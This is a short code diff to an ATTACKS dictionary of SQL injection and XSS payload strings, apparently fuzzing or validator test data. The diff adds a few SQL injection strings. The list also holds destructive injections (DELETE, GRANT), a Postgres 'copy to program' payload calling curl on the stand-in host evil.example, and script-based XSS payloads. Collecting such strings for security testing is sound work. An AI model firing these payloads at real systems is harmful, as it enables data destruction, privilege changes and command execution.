@@ -54,7 +54,8 @@ ATTACKS = {
         "9' and extractvalue(1,concat(0x7e,version()))-- -", "Bobby'); DELETE FROM students;--",
         "'; copy (select '') to program 'curl evil.example'--", "or 'a' = n'a'", "or 2 between 1 and 3",
         "\u2019 or \u20181\u2019=\u20181", "9or3=3", "' || app.adduser('eve', 'x') || '", "'; desc users; --",
-        "' grant connect to eve; --", "uni/**/on sel/**/ect 1", "(select top 1 name", "'^'", "'))", "%27%22%60",
+        "' grant connect to eve; --", "uni/**/on sel/**/ect 1", "(select top 1 name", "'^'", "3' LIMIT 0,1--",
+        "' INSERT INTO logs (a) VALUES ('b')--", "'+1+'", "'))", "%27%22%60",
     ],
     "XSS": [
         "<script>alert(1)</script>", "<img src=x onerror=alert(1)>", "\"><svg/onload=confirm(2)>",
